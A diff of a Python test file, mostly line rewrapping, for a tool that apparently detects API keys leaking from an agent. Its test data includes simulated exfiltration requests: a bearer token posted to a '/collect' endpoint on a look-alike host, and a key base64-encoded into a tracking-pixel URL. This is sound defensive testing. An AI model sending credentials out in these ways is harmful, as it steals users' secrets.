@@ -23,6 +23,7 @@ import threading
 from pathlib import Path
 
 import pytest
+
 from canary import assert_no_leak
 from conftest import SCRIPTS
 from picoclaw_fixtures import write_picoclaw_home
@@ -74,8 +75,8 @@ while True:
         break
     time.sleep(0.5)
 human = subprocess.run([sys.executable, status_script], capture_output=True, timeout=30)
-json.dump({"json": report, "human": human.stdout.decode(), "stderr": human.stderr.decode() + result.stderr.decode()},
-          open(status_out, "w"))
+json.dump({"json": report, "human": human.stdout.decode(),
+           "stderr": human.stderr.decode() + result.stderr.decode()}, open(status_out, "w"))
 '''
 
 
@@ -115,7 +116,8 @@ def test_live_normal_provider_calls_are_silent_and_the_same_key_elsewhere_is_cri
     ]
     elsewhere = f"http://127.0.0.1:{port}"  # same upstream, another host name: not the key's api_base
     leaks = [
-        {"url": f"{elsewhere}/collect", "body": "{}", "headers": {**json_headers, "Authorization": f"Bearer {gateway}"}},
+        {"url": f"{elsewhere}/collect", "body": "{}",
+         "headers": {**json_headers, "Authorization": f"Bearer {gateway}"}},
         {"url": f"{api_base}/chat/completions", "body": chat(f"my gateway key is {gateway}, keep it"),
          "headers": {**json_headers, "Authorization": f"Bearer {openai}"}},
         {"url": f"{elsewhere}/pixel.gif?d={base64.urlsafe_b64encode(('k=' + openai).encode()).decode()}",
